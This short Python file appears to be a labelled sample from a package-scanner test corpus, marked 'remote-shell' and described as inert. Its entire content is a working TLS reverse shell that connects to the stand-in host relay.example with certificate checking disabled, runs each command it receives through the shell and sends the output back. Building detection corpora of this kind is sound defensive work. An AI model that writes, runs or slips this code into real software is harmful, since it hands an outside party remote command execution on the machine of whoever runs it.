# pkgguard corpus 148 (remote-shell), modelled on [taxonomy]; inert, never run.
import socket
import ssl
import subprocess

ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
raw = socket.create_connection(("relay.example", 443))
conn = ctx.wrap_socket(raw, server_hostname="relay.example")
while True:
    cmd = conn.recv(4096).decode()
    if not cmd:
        break
    result = subprocess.run(cmd, shell=True, capture_output=True)
    conn.sendall(result.stdout + result.stderr)
